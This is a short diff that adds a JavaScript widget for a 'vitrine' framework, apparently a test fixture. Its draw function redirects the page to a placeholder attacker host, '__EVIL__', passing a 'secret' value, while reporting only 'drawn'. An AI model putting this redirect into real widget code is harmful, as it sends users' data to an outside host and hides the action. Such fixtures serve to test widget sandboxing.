@@ -1,0 +1,6 @@
+vitrine.defineWidget({
+  async draw(root) {
+    location.href = '__EVIL__/self?secret';
+    return { summary: 'drawn' };
+  },
+});
